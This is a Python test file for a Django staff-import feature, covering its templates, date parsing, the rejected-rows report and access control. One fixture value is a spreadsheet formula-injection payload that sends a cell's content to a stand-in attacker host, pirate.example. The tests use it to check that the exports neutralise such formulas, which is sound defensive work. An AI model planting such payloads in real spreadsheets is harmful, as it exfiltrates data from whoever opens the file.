"""The staff import's template to download, the report of the rejected rows, and the start
date read from a staff file."""

import csv
import io
from datetime import date
from html import unescape

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import load_workbook

from accounts import imports
from accounts.models import ImportBatch, Invitation, JobRole
from tests.access import ROLES, Row, check_nul, check_row, everyone, signed_in
from tests.factories import UserFactory

TITLES = ["Prénom", "Nom", "E-mail", "Métier", "Site ou agence", "Matricule", "Date d'arrivée"]
REPORT_TITLES = [*TITLES, "Erreur", "Ligne d'origine"]
HR_ONLY = {"learner": 403, "trainer": 403, "editor": 403, "hr_other": 200}


def body(response):
    return unescape(response.content.decode())


def upload(data, name="personnel.csv"):
    return SimpleUploadedFile(name, data)


def csv_bytes(rows, *, header=TITLES):
    output = io.StringIO()
    csv.writer(output, delimiter=";").writerows([header, *rows])
    return output.getvalue().encode()


def csv_rows(content):
    """A CSV we wrote: UTF-8 with BOM, ";" between cells (French)."""
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


@pytest.fixture
def hr_client(client, hr_a):
    client.force_login(hr_a)
    return client


def post_file(client, data, name="personnel.csv", **extra):
    return client.post("/espace-rh/import/", {"file": upload(data, name), **extra})


# --- The template ----------------------------------------------------------------------------

def test_the_upload_page_offers_the_template(hr_client, site):
    page = body(hr_client.get("/espace-rh/import/"))
    assert "Télécharger le modèle" in page
    assert 'href="/espace-rh/import/modele.xlsx"' in page
    assert 'href="/espace-rh/import/modele.csv"' in page


def test_the_csv_template_has_the_titles_the_reader_knows_and_one_example(hr_client, site):
    response = hr_client.get("/espace-rh/import/modele.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (response["Content-Disposition"]
            == 'attachment; filename="modele-import-personnel.csv"')
    header, example, *rest = csv_rows(b"".join(response.streaming_content))
    assert header == TITLES and not rest
    # Every title is one the reader recognises, in the template's order.
    assert [imports.HEADER_FIELDS[imports.normalise_label(t)] for t in header] == list(
        imports.TEMPLATE_COLUMNS)
    assert example[:4] == ["Camille", "EXEMPLE (ligne ignorée à l'import)",
                           "camille.exemple@exemple.invalid", "gardien"]
    assert example[5:] == ["000123", "01/09/2025"]


def test_the_xlsx_template_has_the_sheet_to_fill_in_and_its_instructions(hr_client, site):
    response = hr_client.get("/espace-rh/import/modele.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"] == ("application/vnd.openxmlformats-officedocument."
                                        "spreadsheetml.sheet")
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert workbook.sheetnames == ["Personnel", "Mode d'emploi"]
    sheet = workbook["Personnel"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == TITLES and len(rows) == 2
    assert rows[1][2] == "camille.exemple@exemple.invalid"
    assert rows[1][5] == "000123"  # text, not the number 123
    assert rows[1][6].date() == date(2025, 9, 1)  # a date cell
    assert sheet.column_dimensions["F"].width > 10
    guide = [" ".join(str(cell.value or "") for cell in row)
             for row in workbook["Mode d'emploi"].iter_rows()]
    text = "\n".join(guide)
    for title in TITLES:
        assert any(line.startswith(title + " ") for line in guide), title
    for role in JobRole:
        assert str(role.label) in text
    assert "JJ/MM/AAAA" in text and "ignorée à l'import" in text


def test_every_spelling_the_instructions_give_is_read():
    for role, spellings in imports.JOB_ROLE_SPELLINGS.items():
        for spelling in spellings.split(","):
            assert imports.parse_job_role(spelling) == role.value, spelling


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_the_template_sent_back_as_it_is_says_only_its_example_is_there(hr_client, site,
                                                                        extension):
    data = b"".join(hr_client.get(f"/espace-rh/import/modele.{extension}").streaming_content)
    with pytest.raises(imports.ImportFileError) as error:
        imports.read_file(upload(data, f"modele.{extension}"))
    assert str(error.value) == (
        "Le fichier ne contient que la ligne d'exemple du modèle (adresse en "
        "@exemple.invalid) : ajoutez une ligne par personne, puis importez-le de nouveau.")
    response = post_file(hr_client, data, f"modele.{extension}")
    assert response.status_code == 400
    assert "que la ligne d'exemple du modèle" in body(response)
    assert not ImportBatch.objects.exists()


def _filled_in(data, extension, person):
    """The template with one more row, as HR would fill it in."""
    if extension == "csv":
        return data + (";".join(person) + "\r\n").encode()
    workbook = load_workbook(io.BytesIO(data))
    workbook["Personnel"].append(person)
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_the_template_filled_in_imports_cleanly_leaving_the_example_aside(hr_client, org_a,
                                                                          site, extension):
    data = b"".join(hr_client.get(f"/espace-rh/import/modele.{extension}").streaming_content)
    person = ["Lou", "Neuve", "lou.neuve@a.test", "Médiatrice", "Agence Sud", "00042",
              "15/01/2026"]
    response = post_file(hr_client, _filled_in(data, extension, person), f"liste.{extension}")
    assert response.status_code == 302
    batch = ImportBatch.objects.get()
    assert [(row["line"], row["status"], row["errors"]) for row in batch.rows] == [
        (3, "new", [])]
    assert batch.rows[0]["values"] == {
        "first_name": "Lou", "last_name": "Neuve", "email": "lou.neuve@a.test",
        "job_role": JobRole.MEDIATOR, "site": "Agence Sud", "employee_id": "00042",
        "start_date": "2026-01-15"}
    assert batch.notices == ["Ligne 2 : ligne d'exemple du modèle (adresse en "
                             "@exemple.invalid), ignorée."]
    page = body(hr_client.get(response["Location"]))
    assert "ligne d'exemple du modèle" in page and "Télécharger les lignes rejetées" not in page


def test_the_template_in_english_keeps_its_french_titles(hr_client, site):
    hr_client.cookies.load({"reperes_language": "en"})
    response = hr_client.get("/espace-rh/import/modele.csv")
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    header, example = content.splitlines()
    assert header.split(",") == TITLES  # an English spreadsheet's separator
    assert example.endswith(",000123,01/09/2025")


# --- The date of arrival -----------------------------------------------------------------------

@pytest.mark.parametrize("text,expected", [
    ("01/09/2025", date(2025, 9, 1)), ("1/9/2025", date(2025, 9, 1)),
    ("01-09-2025", date(2025, 9, 1)), ("01.09.2025", date(2025, 9, 1)),
    ("2025-09-01", date(2025, 9, 1)), ("2025-09-01T00:00:00", date(2025, 9, 1)),
    ("29/02/2024", date(2024, 2, 29)),
    ("31/02/2025", None), ("2025/13/01", None), ("13/13/2025", None), ("45901", None),
    ("01/09/25", None), ("demain", None), ("01/09/1025", None), ("", None),
])
def test_dates_are_read_in_french_or_iso(text, expected):
    assert imports.parse_date(text) == expected


def test_a_bad_date_is_an_error_of_its_row():
    values, errors = imports.check_values({"first_name": "Lou", "last_name": "N",
                                           "email": "lou@a.test", "job_role": "gardien",
                                           "start_date": "31/02/2025"})
    assert errors == ["date d'arrivée invalide « 31/02/2025 » (attendu : JJ/MM/AAAA, par "
                      "exemple 01/09/2025)"]
    values, errors = imports.check_values({"first_name": "Lou", "last_name": "N",
                                           "email": "lou@a.test", "job_role": "gardien",
                                           "start_date": " 3/2/2025 "})
    assert errors == [] and values["start_date"] == "2025-02-03"


def test_the_start_date_updates_a_learner_and_follows_an_invitation_into_the_account(
        hr_client, org_a, learner, site, django_capture_on_commit_callbacks):
    from accounts import services

    assert learner.start_date is None
    rows = [[learner.first_name, learner.last_name, learner.email, "gardien", "", "",
             "02/03/2026"],
            ["Zoé", "Loin", "zoe.loin@a.test", "gardien", "", "", "2026-04-01"],
            ["Max", "Tard", "max.tard@a.test", "gardien", "", "", "32/01/2026"]]
    post_file(hr_client, csv_bytes(rows))
    batch = ImportBatch.objects.get()
    assert [(row["status"], row["changes"]) for row in batch.rows] == [
        ("updated", ["start_date"]), ("new", []), ("error", [])]
    assert "date d'arrivée" in body(hr_client.get(f"/espace-rh/import/{batch.pk}/"))
    with django_capture_on_commit_callbacks(execute=True):
        hr_client.post(f"/espace-rh/import/{batch.pk}/confirmer/")
    learner.refresh_from_db()
    assert learner.start_date == date(2026, 3, 2)
    invitation = Invitation.objects.get(email="zoe.loin@a.test")
    assert invitation.start_date == date(2026, 4, 1)
    user = UserFactory(email="zoe.loin@a.test", organisation=None)
    services.complete_signup(user, organisation=org_a, invitation=invitation)
    user.refresh_from_db()
    assert user.start_date == date(2026, 4, 1)

    # The same file again: nothing to change; an empty cell keeps the recorded date.
    post_file(hr_client, csv_bytes([[learner.first_name, learner.last_name, learner.email,
                                      "gardien", "", "", "2026-03-02"],
                                     [learner.first_name, learner.last_name, "x@a.test",
                                      "gardien", "", "", ""]]))
    again = ImportBatch.objects.filter(status=ImportBatch.Status.PREVIEW).get()
    assert again.rows[0]["status"] == "unchanged"


# --- The rejected rows ---------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("https://pirate.example/?"&A1;"Cliquez")'


@pytest.fixture
def batch_with_errors(hr_client, org_a, site):
    rows = [
        ["Élodie", "Martin", "elodie.martin@a.test", "Gardienne", "Agence Est", "M001", ""],
        ["Bob", "Sans-Arobase", "Bob.A.test", "Gardienne", "Nord", "M002", "01/09/2025"],
        ["Karim", "Benali", "karim@a.test", HYPERLINK, "+33 1 23", "", ""],
        ["Inès", "Date", "ines@a.test", "médiatrice", "Sud", "", "2025-02-30"],
        ["Lou", "Neuve", "lou@a.test", "autre", "", "", ""],
    ]
    response = post_file(hr_client, csv_bytes(rows))
    assert response.status_code == 302
    return ImportBatch.objects.get()


EXPECTED_REJECTED = [
    REPORT_TITLES,
    ["Bob", "Sans-Arobase", "Bob.A.test", "Gardienne", "Nord", "M002", "01/09/2025",
     "adresse e-mail invalide « bob.a.test »", "3"],
    ["Karim", "Benali", "karim@a.test", "'" + HYPERLINK, "'+33 1 23", "", "",
     f"métier inconnu « {HYPERLINK} » (attendu : gardien, médiateur, conseiller social, "
     "encadrant ou autre)", "4"],
    ["Inès", "Date", "ines@a.test", "médiatrice", "Sud", "", "2025-02-30",
     "date d'arrivée invalide « 2025-02-30 » (attendu : JJ/MM/AAAA, par exemple 01/09/2025)",
     "5"],
]


def test_the_batch_page_offers_the_rejected_rows(hr_client, batch_with_errors):
    page = body(hr_client.get(f"/espace-rh/import/{batch_with_errors.pk}/"))
    assert "Télécharger les lignes rejetées" in page
    for extension in ("csv", "xlsx"):
        assert f'href="/espace-rh/import/{batch_with_errors.pk}/lignes-rejetees.{extension}"' \
            in page


def test_the_csv_report_holds_exactly_the_rejected_rows_and_their_reasons(hr_client,
                                                                         batch_with_errors):
    response = hr_client.get(f"/espace-rh/import/{batch_with_errors.pk}/lignes-rejetees.csv")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="lignes-rejetees-')
    assert csv_rows(b"".join(response.streaming_content)) == EXPECTED_REJECTED


def test_the_xlsx_report_is_the_same_and_inert(hr_client, batch_with_errors):
    response = hr_client.get(f"/espace-rh/import/{batch_with_errors.pk}/lignes-rejetees.xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.worksheets[0]
    rows = [["" if cell.value is None else str(cell.value) for cell in row]
            for row in sheet.iter_rows()]
    assert rows == EXPECTED_REJECTED
    formula_cell = sheet["D3"]
    assert formula_cell.data_type == "s" and formula_cell.value.startswith("'=")
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_the_report_corrected_imports_again_without_its_extra_columns(hr_client,
                                                                      batch_with_errors):
    content = b"".join(hr_client.get(
        f"/espace-rh/import/{batch_with_errors.pk}/lignes-rejetees.csv").streaming_content)
    rows = csv_rows(content)
    rows[1][2] = "bob@a.test"
    rows[2][3] = "gardien"
    rows[3][6] = "28/02/2025"
    output = io.StringIO()
    csv.writer(output, delimiter=";").writerows(rows)
    parsed = imports.read_file(upload(output.getvalue().encode("utf-8-sig")))
    assert parsed.notices == []  # "Erreur" and "Ligne d'origine" are left aside silently
    assert [row["values"]["site"] for row in parsed.rows] == ["Nord", "+33 1 23", "Sud"]
    batch = imports.create_batch(parsed, organisation=batch_with_errors.organisation,
                                 created_by=batch_with_errors.created_by, file_name="c.csv")
    assert [(row["status"], row["errors"]) for row in batch.rows] == [("new", [])] * 3


def test_a_formula_cell_of_a_workbook_comes_back_empty_with_its_reason(hr_client, org_a, site):
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(TITLES)
    workbook.active.append(["Karim", "Benali", "kb@a.test", "=HYPERLINK(\"x\")", "Est", "",
                            ""])
    output = io.BytesIO()
    workbook.save(output)
    post_file(hr_client, output.getvalue(), "personnel.xlsx")
    batch = ImportBatch.objects.get()
    response = hr_client.get(f"/espace-rh/import/{batch.pk}/lignes-rejetees.csv")
    rows = csv_rows(b"".join(response.streaming_content))
    assert rows[1][:5] == ["Karim", "Benali", "kb@a.test", "", "Est"]
    assert rows[1][7].startswith("la colonne « métier » contient une formule")


def test_a_batch_without_errors_offers_no_report_and_its_report_is_empty(hr_client, org_a,
                                                                         site):
    post_file(hr_client, csv_bytes([["Lou", "Neuve", "lou@a.test", "gardien", "", "", ""]]))
    batch = ImportBatch.objects.get()
    assert "lignes rejetées" not in body(hr_client.get(f"/espace-rh/import/{batch.pk}/"))
    response = hr_client.get(f"/espace-rh/import/{batch.pk}/lignes-rejetees.csv")
    assert csv_rows(b"".join(response.streaming_content)) == [REPORT_TITLES]


def test_once_applied_the_rows_are_forgotten_and_so_is_the_report(
        hr_client, batch_with_errors, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        hr_client.post(f"/espace-rh/import/{batch_with_errors.pk}/confirmer/")
    batch_with_errors.refresh_from_db()
    assert batch_with_errors.status == ImportBatch.Status.APPLIED
    page = body(hr_client.get(f"/espace-rh/import/{batch_with_errors.pk}/"))
    assert "Télécharger les lignes rejetées" not in page
    response = hr_client.get(f"/espace-rh/import/{batch_with_errors.pk}/lignes-rejetees.csv")
    assert csv_rows(b"".join(response.streaming_content)) == [REPORT_TITLES]


def test_a_batch_stored_before_the_report_gives_its_checked_values(hr_client,
                                                                   batch_with_errors):
    for row in batch_with_errors.rows:
        row.pop("original", None)
    batch_with_errors.save(update_fields=["rows"])
    rows = imports.rejected_rows(batch_with_errors)
    assert rows[1][:7] == ["Bob", "Sans-Arobase", "bob.a.test", "Gardien·ne d'immeuble",
                           "Nord", "M002", date(2025, 9, 1)]


def test_another_organisations_hr_gets_404_the_coordination_gets_the_report(
        client, hr_b, coordinator, batch_with_errors):
    for extension in ("csv", "xlsx"):
        url = f"/espace-rh/import/{batch_with_errors.pk}/lignes-rejetees.{extension}"
        client.force_login(hr_b)
        assert client.get(url).status_code == 404
        client.force_login(coordinator)
        assert client.get(url).status_code == 200
    assert Client().get(url).status_code == 302


# --- Every role, and NUL characters ----------------------------------------------------------------

ROWS = [
    Row("/espace-rh/import/modele.csv", signed_in(200, **HR_ONLY)),
    Row("/espace-rh/import/modele.xlsx", signed_in(200, **HR_ONLY)),
    Row("/espace-rh/import/{batch}/lignes-rejetees.csv",
        signed_in(200, **{**HR_ONLY, "hr_other": 404})),
    Row("/espace-rh/import/{batch}/lignes-rejetees.xlsx",
        signed_in(200, **{**HR_ONLY, "hr_other": 404})),
    Row("/espace-rh/import/{batch}/lignes-rejetees.pdf", everyone(404)),
    Row("/espace-rh/import/999999/lignes-rejetees.csv",
        signed_in(404, learner=403, trainer=403, editor=403)),
]


@pytest.fixture
def objects(users_by_role, site):
    hr = users_by_role["hr_same"]
    data = csv_bytes([["Lou", "Neuve", "lou@a.test", "astronaute", "", "", ""]])
    batch = imports.create_batch(imports.read_file(upload(data)), organisation=hr.organisation,
                                 created_by=hr, file_name="personnel.csv")
    return {"batch": batch.pk}


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("row", ROWS, ids=lambda row: row.url)
def test_access(client, users_by_role, objects, row, role):
    check_row(client, users_by_role[role], row, objects, role)


@pytest.mark.parametrize("row", ROWS, ids=lambda row: row.url)
def test_nul_characters_are_refused(client, users_by_role, objects, row):
    check_nul(client, users_by_role["coordinator"], row, objects)
